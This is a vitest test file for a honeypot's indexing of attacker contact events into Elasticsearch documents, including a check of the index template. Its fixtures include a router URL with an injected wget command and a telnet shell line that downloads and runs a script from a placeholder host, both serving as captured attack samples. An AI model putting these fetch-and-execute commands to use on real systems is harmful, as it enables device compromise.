/**
 * Contact events → ECS search documents. Events are built with the catalog's own
 * `envelope` (the stored encoding) and facts with the sensor plugins' own fact
 * builders, so a change in either shows up here. The last block walks
 * config/elasticsearch/index-template.json against every field the documents use.
 */
import { encode as encodeDns } from "dns-packet"
import { readFileSync } from "node:fs"
import { describe, expect, it } from "vitest"
import { makeGeoLookup } from "../../adapters/geoip/index.js"
import { requestFacts as httpRequestFacts } from "../../adapters/sensor/http/facts.js"
import { answer as dnsAnswer } from "../../adapters/sensor/plugins/dns/answer.js"
import { FakeShell, mergeShellFacts } from "../../adapters/sensor/shell/Shell.js"
import { requestFacts as sipRequestFacts } from "../../adapters/sensor/sip/facts.js"
import { decode as decodeSip } from "../../adapters/sensor/sip/message.js"
import { isIp } from "../../domain/ip.js"
import {
  ContactClosed,
  ContactOpened,
  ContactVerified,
  CredentialsTried,
  HostScanned,
  PayloadReceived,
  PayloadSent,
  Position,
  envelope,
  eventTypes
} from "../../domain/events/index.js"
import type { DomainEvent, RecordedEvent } from "../../domain/events/index.js"
import { searchEventTypes, searchIndexName, toSearchDocument } from "../../domain/search/document.js"
import type { SearchDocument } from "../../domain/search/document.js"
import type { GeoInfo, GeoLookup } from "../../domain/search/geo.js"

const at = new Date("2026-11-30T23:59:58.123Z")
const attacker = "81.33.1.1"
const session = { sessionId: "s-1", sensor: "sensor-1", service: "sip" }

let revision = 0
const recorded = (event: DomainEvent, stream = `attacker-${attacker}`, when = at): RecordedEvent => {
  const id = `00000000-0000-4000-8000-${String(++revision).padStart(12, "0")}`
  // through JSON, as every store returns it
  const stored = JSON.parse(JSON.stringify(envelope(event, { eventId: id, at: when })))
  return { stream, revision, position: Position(String(revision)), eventId: id, type: stored.type, data: stored.data, metadata: stored.metadata }
}

const madrid: GeoInfo = {
  countryIsoCode: "ES",
  continentCode: "EU",
  continentName: "Europe",
  cityName: "Madrid",
  location: { lat: 40.4168, lon: -3.7038 },
  geohash: "ezjmgtw"
}
const looked: Array<string> = []
const stubGeo: GeoLookup = { lookup: (ip) => (looked.push(ip), ip === attacker ? madrid : null) }
const doc = (event: RecordedEvent, geo: GeoLookup = stubGeo): SearchDocument => {
  const d = toSearchDocument(event, geo)
  if (d === null) throw new Error(`no document for ${event.type}`)
  return d
}

const payload = (over: Partial<ConstructorParameters<typeof PayloadReceived>[0]> = {}) => ({
  ...session,
  length: 5,
  md5: "5d41402abc4b2a76b9719d911017c592",
  hex: "68656c6c6f",
  text: "hello",
  truncated: false,
  facts: {},
  ...over
})

const opened = recorded(
  new ContactOpened({
    ...session,
    plugin: "sip",
    transport: "udp",
    sourceIp: attacker,
    sourcePort: 5071,
    localIp: "127.0.0.1",
    localPort: 15060,
    publicPort: 5060
  })
)

const sipInvite = decodeSip(
  Buffer.from(
    "INVITE sip:0034911234567@198.51.100.10 SIP/2.0\r\nVia: SIP/2.0/UDP 81.33.1.1:5071;branch=z9hG4bK-1\r\n" +
      "From: <sip:100@198.51.100.10>;tag=a\r\nTo: <sip:0034911234567@198.51.100.10>\r\nCall-ID: c1\r\nCSeq: 1 INVITE\r\n" +
      "User-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n"
  )
)
if (!sipInvite.ok || sipInvite.message.kind !== "request") throw new Error("fixture: SIP INVITE did not decode")
const sipFacts = sipRequestFacts(sipInvite.message)

const httpFacts: Record<string, unknown> = {
  ...httpRequestFacts({
    method: "GET",
    target: "/cgi-bin/luci/;stok=/locale?form=country&country=$(wget%20http://203.0.113.9/x.sh)",
    version: "1.1",
    headers: [["Host", "198.51.100.10"], ["User-Agent", "Mozilla/5.0 zgrab/0.x"]],
    body: Buffer.alloc(0),
    bodyLength: 0,
    chunked: false
  }),
  status: 404,
  page: "not-found"
}

const dnsFacts = dnsAnswer(encodeDns({ type: "query", id: 7, flags: 0x0100, questions: [{ name: "Example.COM", type: "ANY" as "A", class: "IN" }] }), {
  udpBudget: 512,
  salt: "",
  ttl: 300,
  version: null,
  nxdomain: []
}).facts

const shellReply = new FakeShell({ user: "root" }).run("cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh")
const telnetFacts = { phase: "shell", ...mergeShellFacts([shellReply.facts!]) }

describe("toSearchDocument", () => {
  it("covers exactly the six contact event types, and no other event", () => {
    expect([...searchEventTypes].sort()).toEqual(
      eventTypes.filter((t) => ["ContactOpened", "PayloadReceived", "PayloadSent", "CredentialsTried", "ContactVerified", "ContactClosed"].includes(t)).sort()
    )
    const scan = recorded(
      new HostScanned({ scanId: "scan-1", ip: "192.0.2.10", status: "up", addresses: [], hostnames: [], ports: [] }),
      "host-192.0.2.10"
    )
    expect(toSearchDocument(scan, stubGeo)).toBeNull()
    expect(toSearchDocument({ ...opened, type: "BanIssued" }, stubGeo)).toBeNull()
  })

  it("ContactOpened: identity, ECS event fields, source with geo, destination with the public port", () => {
    expect(doc(opened)).toEqual({
      "@timestamp": "2026-11-30T23:59:58.123Z",
      event: {
        id: opened.eventId,
        action: "contact-opened",
        category: ["network", "intrusion_detection"],
        type: ["connection", "start"],
        kind: "event",
        dataset: "honeyhole.sensor",
        module: "honeyhole"
      },
      source: {
        ip: attacker,
        port: 5071,
        geo: { country_iso_code: "ES", continent_code: "EU", continent_name: "Europe", city_name: "Madrid", location: { lat: 40.4168, lon: -3.7038 } }
      },
      destination: { ip: "127.0.0.1", port: 5060 },
      network: { transport: "udp", protocol: "sip" },
      observer: { name: "sensor-1", type: "honeypot" },
      honeyhole: {
        stream: `attacker-${attacker}`,
        session: "s-1",
        sensor: "sensor-1",
        service: "sip",
        plugin: "sip",
        local_port: 15060,
        geohash: "ezjmgtw",
        continent: "EU"
      }
    })
  })

  it("later events of a session get the attacker from the stream name, with geo", () => {
    looked.length = 0
    const d = doc(recorded(new ContactVerified({ ...session, transport: "udp", proof: "sip-nonce-echo" })))
    expect(looked).toEqual([attacker])
    expect(d.source).toEqual({ ip: attacker, geo: expect.objectContaining({ country_iso_code: "ES" }) })
    expect(d.honeyhole).toMatchObject({ geohash: "ezjmgtw", continent: "EU", verified_by: "sip-nonce-echo", session: "s-1" })
    expect(d.network).toEqual({ transport: "udp" })
    expect(d.event).toMatchObject({ action: "contact-verified", type: ["info"], category: ["network", "intrusion_detection"] })
  })

  it("no geo (private source, or a lookup that knows nothing): no geo fields at all, not nulls", () => {
    const d = doc(recorded(new ContactVerified({ ...session, transport: "udp", proof: "tftp-ack" }), "attacker-10.1.2.3"))
    expect(d.source).toEqual({ ip: "10.1.2.3" })
    expect(d.honeyhole).not.toHaveProperty("geohash")
    expect(d.honeyhole).not.toHaveProperty("continent")
    expect(JSON.stringify(d)).not.toContain("null")
  })

  it("PayloadReceived with SIP facts: method, dialled number, user agent; payload fields; facts kept", () => {
    const d = doc(recorded(new PayloadReceived(payload({ length: 321, facts: sipFacts }))))
    expect(d.event).toMatchObject({ action: "payload-received", type: ["info"] })
    expect(d.source).toMatchObject({ ip: attacker, bytes: 321 })
    expect(d.honeyhole.sip).toEqual({ method: "INVITE", dialled_number: "0034911234567", user_agent: "friendly-scanner" })
    expect(d.user_agent).toEqual({ original: "friendly-scanner" })
    expect(d.honeyhole.payload).toEqual({ text: "hello", hex: "68656c6c6f", md5: "5d41402abc4b2a76b9719d911017c592", bytes: 321, truncated: false })
    expect(d.honeyhole.facts).toMatchObject({ method: "INVITE", callId: "c1", dialled: "0034911234567" })
  })

  it("several SIP messages in one chunk: the first one fills the single-valued fields", () => {
    const d = doc(recorded(new PayloadReceived(payload({ facts: { messages: [{ ...sipFacts, method: "OPTIONS", dialled: undefined }, sipFacts] } }))))
    expect(d.honeyhole.sip).toMatchObject({ method: "OPTIONS" })
  })

  it("PayloadReceived with HTTP facts: method, URL, user agent, status, exploit commands and URLs; nulls dropped from facts", () => {
    const d = doc(recorded(new PayloadReceived(payload({ facts: httpFacts }))))
    expect(d.http).toEqual({ request: { method: "GET" }, response: { status_code: 404 } })
    expect(d.url).toEqual({ path: "/cgi-bin/luci/;stok=/locale", original: `/cgi-bin/luci/;stok=/locale?${String(httpFacts["query"])}` })
    expect(d.user_agent).toEqual({ original: "Mozilla/5.0 zgrab/0.x" })
    expect(d.honeyhole.urls).toEqual(["http://203.0.113.9/x.sh"])
    expect(d.honeyhole.shell?.commands).toEqual([expect.stringContaining("wget http://203.0.113.9/x.sh")])
    expect(JSON.stringify(d)).not.toContain("null")
  })

  it("PayloadReceived with DNS facts: question name and type", () => {
    const d = doc(recorded(new PayloadReceived(payload({ facts: dnsFacts }))))
    expect(d.dns).toEqual({ question: { name: "example.com", type: "ANY" } })
  })

  it("PayloadReceived from the telnet shell: commands and URLs", () => {
    const d = doc(recorded(new PayloadReceived(payload({ facts: telnetFacts }))))
    expect(d.honeyhole.shell?.commands).toEqual(["cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh"])
    expect(d.honeyhole.urls).toEqual(["http://203.0.113.9/bins.sh"])
  })

  it("ssh client version is the user agent; SMTP command verbs are not shell commands", () => {
    const ssh = doc(recorded(new PayloadReceived(payload({ facts: { clientVersion: "SSH-2.0-libssh_0.9.6", software: "libssh_0.9.6", comments: "" } }))))
    expect(ssh.user_agent).toEqual({ original: "SSH-2.0-libssh_0.9.6" })
    const smtp = doc(recorded(new PayloadReceived(payload({ facts: { commands: ["EHLO x", "AUTH LOGIN"], helo: "x" } }))))
    expect(smtp.honeyhole).not.toHaveProperty("shell")
    expect(smtp.honeyhole.facts).toEqual({ commands: ["EHLO x", "AUTH LOGIN"], helo: "x" })
  })

  it("PayloadSent counts destination bytes; empty facts leave no facts field", () => {
    const d = doc(recorded(new PayloadSent(payload({ length: 42 }))))
    expect(d.event.action).toBe("payload-sent")
    expect(d.destination).toEqual({ bytes: 42 })
    expect(d.source).toEqual({ ip: attacker, geo: expect.anything() })
    expect(d.honeyhole).not.toHaveProperty("facts")
  })

  it("CredentialsTried: user name, password, method, authentication category", () => {
    const d = doc(recorded(new CredentialsTried({ ...session, username: "root", password: "admin", method: "password", detail: { attempt: 2 } })))
    expect(d.event).toMatchObject({ action: "credentials-tried", category: ["authentication", "intrusion_detection"], type: ["info"] })
    expect(d.user).toEqual({ name: "root" })
    expect(d.honeyhole.credentials).toEqual({ password: "admin", method: "password" })
    expect(d.honeyhole.facts).toEqual({ attempt: 2 })
    const key = doc(recorded(new CredentialsTried({ ...session, username: "", password: null, method: "publickey" })))
    expect(key.user).toEqual({ name: "" })
    expect(key.honeyhole.credentials).toEqual({ method: "publickey" })
  })

  it("ContactClosed: duration in nanoseconds, bytes both ways, close reason", () => {
    const d = doc(recorded(new ContactClosed({ ...session, durationMs: 1500, bytesIn: 700, bytesOut: 90, reason: "idle-timeout" })))
    expect(d.event).toMatchObject({ action: "contact-closed", type: ["connection", "end"], duration: 1_500_000_000 })
    expect(d.source).toMatchObject({ bytes: 700 })
    expect(d.destination).toEqual({ bytes: 90 })
    expect(d.honeyhole.close_reason).toBe("idle-timeout")
  })

  it("a contact event without a usable time is an error naming the event, not a document dated now", () => {
    const bad = { ...opened, metadata: { ...(opened.metadata as object), at: "yesterday" } }
    expect(() => toSearchDocument(bad, stubGeo)).toThrow(`cannot index ContactOpened ${opened.eventId} at attacker-${attacker}@${opened.revision}: metadata.at is not a date`)
  })

  it("an unreadable GeoIP database surfaces from toSearchDocument (the projection reports it), it does not drop the geo silently", () => {
    const broken = makeGeoLookup({ cityDb: "/nonexistent/GeoLite2-City.mmdb" })
    expect(() => toSearchDocument(opened, broken)).toThrow("cannot read GeoIP database /nonexistent/GeoLite2-City.mmdb: no such file")
    // a private source never needs the database, so its events still index
    const privateSource = recorded(new ContactVerified({ ...session, transport: "udp", proof: "tftp-ack" }), "attacker-10.9.9.9")
    expect(toSearchDocument(privateSource, broken)?.source).toEqual({ ip: "10.9.9.9" })
  })

  it("indices are named by the event's UTC date", () => {
    expect(searchIndexName("honeyhole-events", doc(opened)["@timestamp"])).toBe("honeyhole-events-2026.11.30")
    const nextDay = recorded(new ContactVerified({ ...session, transport: "udp", proof: "tftp-ack" }), `attacker-${attacker}`, new Date("2026-12-01T00:00:00Z"))
    expect(searchIndexName("hh", doc(nextDay)["@timestamp"])).toBe("hh-2026.12.01")
  })

  it("with the bundled DB-IP database: IPv6 and IPv4 attackers get real geo", () => {
    const geo = makeGeoLookup({ cityDb: null })
    const v6 = doc(recorded(new ContactVerified({ ...session, transport: "udp", proof: "dns-tcp-retry" }), "attacker-2a00:1450:4003:80e::200e"), geo)
    expect(v6.source?.geo).toMatchObject({ country_iso_code: "ES", continent_code: "EU" })
    const v4 = doc(recorded(new ContactVerified({ ...session, transport: "udp", proof: "dns-tcp-retry" }), "attacker-8.8.8.8"), geo)
    expect(v4.source?.geo).toMatchObject({ country_iso_code: "US", continent_code: "NA", continent_name: "North America" })
    expect(v4.honeyhole.geohash).toMatch(/^[0-9b-hjkmnp-z]{7}$/)
  })
})

// ---------------------------------------------------------------- the template

interface Mapping {
  readonly type?: string
  readonly properties?: Record<string, Mapping>
  readonly fields?: Record<string, Mapping>
}
const template = JSON.parse(readFileSync(new URL("../../config/elasticsearch/index-template.json", import.meta.url), "utf8"))
const root: Mapping = template.template.mappings

/** leaf paths of a document with their values; objects mapped as flattened/geo_point are leaves */
const leaves = (value: unknown, mapping: Mapping | undefined, path: string, out: Map<string, { value: unknown; mapping: Mapping | undefined }>) => {
  const opaque = mapping?.type === "flattened" || mapping?.type === "geo_point"
  if (typeof value === "object" && value !== null && !Array.isArray(value) && !opaque) {
    for (const [key, v] of Object.entries(value)) leaves(v, mapping?.properties?.[key], path === "" ? key : `${path}.${key}`, out)
  } else out.set(path, { value, mapping })
}

const mappedFields = (mapping: Mapping, path: string, out: Array<string>) => {
  for (const [key, m] of Object.entries(mapping.properties ?? {})) {
    const p = path === "" ? key : `${path}.${key}`
    if (m.properties !== undefined) mappedFields(m, p, out)
    else out.push(p)
  }
}

const fits = (type: string | undefined, value: unknown): boolean => {
  const each = Array.isArray(value) ? value : [value]
  return each.length > 0 && each.every((v) => {
    switch (type) {
      case "keyword":
      case "text":
        return typeof v === "string"
      case "long":
        return Number.isSafeInteger(v)
      case "boolean":
        return typeof v === "boolean"
      case "ip":
        return typeof v === "string" && isIp(v)
      case "date":
        return typeof v === "string" && !Number.isNaN(Date.parse(v))
      case "geo_point":
        return typeof v === "object" && v !== null && typeof (v as { lat: unknown }).lat === "number" && typeof (v as { lon: unknown }).lon === "number"
      case "flattened":
        return typeof v === "object" && v !== null
      default:
        return false
    }
  })
}

describe("config/elasticsearch/index-template.json", () => {
  const everyDoc = [
    opened,
    recorded(new PayloadReceived(payload({ facts: sipFacts }))),
    recorded(new PayloadReceived(payload({ facts: httpFacts }))),
    recorded(new PayloadReceived(payload({ facts: dnsFacts }))),
    recorded(new PayloadReceived(payload({ facts: telnetFacts }))),
    recorded(new PayloadSent(payload({ facts: { banner: "SSH-2.0-OpenSSH_9.2p1" } }))),
    recorded(new CredentialsTried({ ...session, username: "root", password: "root", method: "password" })),
    recorded(new ContactVerified({ ...session, transport: "udp", proof: "sip-nonce-echo" })),
    recorded(new ContactClosed({ ...session, durationMs: 10, bytesIn: 1, bytesOut: 2, reason: "closed" }))
  ].map((e) => doc(e))

  it("is a composable template for the dated indices, with the retention policy and origination date from the name", () => {
    expect(template.index_patterns).toEqual(["honeyhole-events-*"])
    expect(template.template.settings).toMatchObject({
      "index.lifecycle.name": "honeyhole-events-retention",
      "index.lifecycle.parse_origination_date": true
    })
    // unknown fields must never create mappings (a fact key per attacker would explode the mapping)
    expect(root).toMatchObject({ dynamic: false })
    const ilm = JSON.parse(readFileSync(new URL("../../config/elasticsearch/ilm-policy.json", import.meta.url), "utf8"))
    expect(ilm.policy.phases.delete).toEqual({ min_age: expect.stringMatching(/^\d+d$/), actions: { delete: {} } })
  })

  it("maps every field a document can hold, with a type its values fit", () => {
    const seen = new Map<string, { value: unknown; mapping: Mapping | undefined }>()
    for (const d of everyDoc) leaves(d, root, "", seen)
    const unmapped = [...seen].filter(([, { mapping }]) => mapping?.type === undefined).map(([p]) => p)
    expect(unmapped).toEqual([])
    const misfits = [...seen].filter(([, { value, mapping }]) => !fits(mapping?.type, value)).map(([p, { value, mapping }]) => `${p}: ${mapping?.type} ← ${JSON.stringify(value)}`)
    expect(misfits).toEqual([])
  })

  it("has no field the documents never fill (charts built on the template find data)", () => {
    const seen = new Map<string, { value: unknown; mapping: Mapping | undefined }>()
    for (const d of everyDoc) leaves(d, root, "", seen)
    const fields: Array<string> = []
    mappedFields(root, "", fields)
    expect(fields.filter((f) => !seen.has(f))).toEqual([])
  })
})
